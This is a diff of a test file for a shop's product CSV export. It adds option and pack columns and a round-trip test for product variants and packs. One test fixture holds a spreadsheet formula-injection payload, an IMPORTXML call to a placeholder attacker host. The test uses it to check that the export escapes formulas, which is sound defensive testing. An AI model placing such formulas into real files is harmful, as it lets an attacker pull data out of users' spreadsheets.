@@ -448,11 +448,14 @@ describe('export', () => {
       .trim()
       .split('\r\n');
     expect(lines[0]).toBe(
-      'name,sku,barcode,price,sale_price,cost_price,quantity,track_stock,low_stock_threshold,unit,categories,description,status',
+      'name,sku,barcode,price,sale_price,cost_price,quantity,track_stock,low_stock_threshold,unit,categories,description,status,' +
+        'option1_name,option1_value,option2_name,option2_value,option3_name,option3_value,' +
+        'pack1_name,pack1_units,pack1_barcode,pack1_price,pack2_name,pack2_units,pack2_barcode,pack2_price,' +
+        'pack3_name,pack3_units,pack3_barcode,pack3_price',
     );
     expect(lines).toHaveLength(1 + (await list({ categoryId: drinks })).body.pagination.total);
     expect(lines.find((l) => l.startsWith('Coca-Cola 50cl,'))).toMatch(
-      /^Coca-Cola 50cl,COKE-50,\d{13},400\.00,,,0,yes,5,piece,Soft Drinks,,active$/,
+      /^Coca-Cola 50cl,COKE-50,\d{13},400\.00,,,0,yes,5,piece,Soft Drinks,,active,{18}$/,
     );
   });
   it('quotes commas, quotes and line breaks, escapes formulas, and imports back unchanged', async () => {
@@ -475,7 +478,7 @@ describe('export', () => {
     const [, line] = text.split('\r\n');
     expect(line).toBe(
       `"Rice, ""Ofada"" 5kg",OFADA-5,${created.body.data.barcode ?? ''},8500.00,,,12,yes,3,"'@bag",,` +
-        `"'=IMPORTXML(""http://evil.example"",""//a"")\nSecond line",active`,
+        `"'=IMPORTXML(""http://evil.example"",""//a"")\nSecond line",active${','.repeat(18)}`,
     );
     const [, cells] = Papa.parse<string[]>(text.trim()).data;
     expect([cells![0], cells![9], cells![11]]).toEqual([
@@ -488,6 +491,117 @@ describe('export', () => {
       ...fileUpload(text, 'products.csv', 'text/csv'),
     });
     expect(back.body.data).toMatchObject({ created: 0, updated: 0, unchanged: 1, rejected: [] });
+  });
+});
+
+describe('export of variants and packs', () => {
+  it('writes a row per variant with its options, and packs in the pack columns', async () => {
+    const shop = await createMerchant(t);
+    const create = async (body: Record<string, unknown>) => {
+      const res = await t.call('POST', '/product/create', { token: shop.token, body });
+      expect(res.status, JSON.stringify(res.body)).toBe(201);
+      return res.body.data;
+    };
+    const tee = await create({
+      name: 'Polo Shirt',
+      price: 500_000,
+      unit: 'piece',
+      options: [
+        { name: 'Size', values: ['S', 'M'] },
+        { name: 'Colour', values: ['Red'] },
+      ],
+      variants: [
+        { options: { Size: 'S', Colour: 'Red' }, sku: 'POLO-S', quantity: 4 },
+        {
+          options: { Size: 'M', Colour: 'Red' },
+          sku: 'POLO-M',
+          price: 550_000,
+          quantity: 2,
+          packs: [{ name: 'bundle', factor: 5, price: 2_500_000 }],
+        },
+      ],
+    });
+    const tin = await create({
+      name: 'Peak Milk 400g Tin',
+      sku: 'PEAK-TIN',
+      price: 260_000,
+      quantity: 48,
+      unit: 'tin',
+    });
+    // Packs through an edit: a create sending packs alone does not keep them (yet).
+    const packed = await t.call('PUT', `/product/${tin.id}`, {
+      token: shop.token,
+      body: { packs: [{ name: 'carton', factor: 24, barcode: '6151100070111', price: 6_000_000 }] },
+    });
+    expect(packed.status, JSON.stringify(packed.body)).toBe(200);
+    // One variant only: read without its option values, which the export reads itself.
+    await create({
+      name: 'Wrapper',
+      sku: 'WRAP-1',
+      price: 100_000,
+      options: [{ name: 'Size', values: ['One size'] }],
+    });
+    const res = await t.call('GET', '/product/export', { token: shop.token });
+    expect(res.status).toBe(200);
+    const [header, ...rows] = Papa.parse<string[]>(
+      String(res.body)
+        .replace(/^\uFEFF/, '')
+        .trim(),
+    ).data;
+    const byName = (row: string[]) => Object.fromEntries(header!.map((c, i) => [c, row[i]]));
+    const cells = rows.map(byName);
+    expect(cells).toHaveLength(4);
+    const polo = cells.filter((c) => c.name === 'Polo Shirt');
+    expect(polo).toEqual([
+      expect.objectContaining({
+        sku: 'POLO-S',
+        barcode: tee.variants[0].barcode,
+        price: '5000.00',
+        quantity: '4',
+        unit: 'piece',
+        option1_name: 'Size',
+        option1_value: 'S',
+        option2_name: 'Colour',
+        option2_value: 'Red',
+        option3_name: '',
+        pack1_name: '',
+      }),
+      expect.objectContaining({
+        sku: 'POLO-M',
+        price: '5500.00',
+        quantity: '2',
+        option1_value: 'M',
+        option2_value: 'Red',
+        pack1_name: 'bundle',
+        pack1_units: '5',
+        pack1_barcode: tee.variants[1].packs[0].barcode,
+        pack1_price: '25000.00',
+      }),
+    ]);
+    // The rows of one product follow each other.
+    expect(Math.abs(cells.indexOf(polo[0]!) - cells.indexOf(polo[1]!))).toBe(1);
+    expect(cells.find((c) => c.name === 'Peak Milk 400g Tin')).toEqual(
+      expect.objectContaining({
+        sku: 'PEAK-TIN',
+        barcode: tin.barcode,
+        quantity: '48',
+        option1_name: '',
+        option1_value: '',
+        pack1_name: 'carton',
+        pack1_units: '24',
+        pack1_barcode: '6151100070111',
+        pack1_price: '60000.00',
+        pack2_name: '',
+      }),
+    );
+    expect(cells.find((c) => c.name === 'Wrapper')).toEqual(
+      expect.objectContaining({ sku: 'WRAP-1', option1_name: 'Size', option1_value: 'One size' }),
+    );
+    const back = await t.call('POST', '/product/upload', {
+      token: shop.token,
+      ...fileUpload(String(res.body), 'products.csv', 'text/csv'),
+    });
+    expect(back.body.data).toMatchObject({ created: 0, updated: 0, unchanged: 3, rejected: [] });
   });
 });
 
